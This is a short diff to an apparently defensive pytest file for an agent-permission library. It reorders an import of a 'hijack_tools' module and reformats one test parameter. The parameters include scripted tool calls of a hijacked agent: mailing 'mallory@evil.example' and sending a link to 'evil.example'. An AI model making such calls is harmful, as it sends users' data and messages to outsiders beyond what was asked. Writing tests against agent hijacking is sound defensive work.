@@ -7,9 +7,9 @@ import asyncio
 import base64
 import json
 
+import hijack_tools
 import pytest
 
-import hijack_tools
 from remit import Remit, Runtime, Waiting
 from remit.event import GrantFrozen
 from remit.testing import ScriptedModel, call
@@ -137,7 +137,8 @@ def test_what_was_not_asked_for_never_happens_and_nobody_is_asked(tmp_path, call
             call("send_mail", to="mallory@evil.example", subject="Trip", body="x"), id="another address"
         ),
         pytest.param(
-            call("send_mail", to="ann@example.com", subject="Trip", body="see https://evil.example"), id="link"
+            call("send_mail", to="ann@example.com", subject="Trip", body="see https://evil.example"),
+            id="link",
         ),
         pytest.param(
             call("book", title="Trip", start="2026-05-16 09:00", end="2026-05-16 10:00"), id="another day"
